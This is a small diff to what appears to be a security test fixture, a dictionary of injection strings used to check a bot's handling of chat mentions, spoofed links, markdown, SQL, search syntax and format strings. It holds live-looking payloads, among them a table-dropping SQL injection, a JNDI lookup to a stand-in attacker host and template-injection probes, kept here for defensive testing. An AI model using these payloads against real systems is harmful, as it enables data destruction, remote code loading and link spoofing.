@@ -15,7 +15,7 @@ INJECTIONS = {
     "everyone": "@everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678>",
     "slack": "<!channel> <!here> <@U012AB3CD> <https://evil.example|reuters.com> &lt;!everyone&gt;",
     "link": "[reuters.com](https://evil.example) [a\nb](https://evil.example) discord.gg/x https://a.b@evil.example/",
-    "markdown": "**bold** __under__ ~~strike~~ ||spoiler|| `code` ```block``` > quote # head <:emoji:12345678901> <t:0:R>",
+    "markdown": "**bold** __under__ ~~strike~~ ||spoiler|| `code` ```block``` > quote # head <:e:12345678901> <t:0:R>",
     "sql": "Robert'); DROP TABLE articles;-- \" OR 1=1 -- ; PRAGMA journal_mode=OFF; ATTACH 'x' AS y",
     "fts": 'NEAR("a" "b", 2) title:x AND NOT OR * ^ "unclosed covid-19 U.S. AT&T c++ col:umn {a b}: -minus',
     "format": "{0} {0.__class__.__mro__} %s %n %(x)s ${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}",
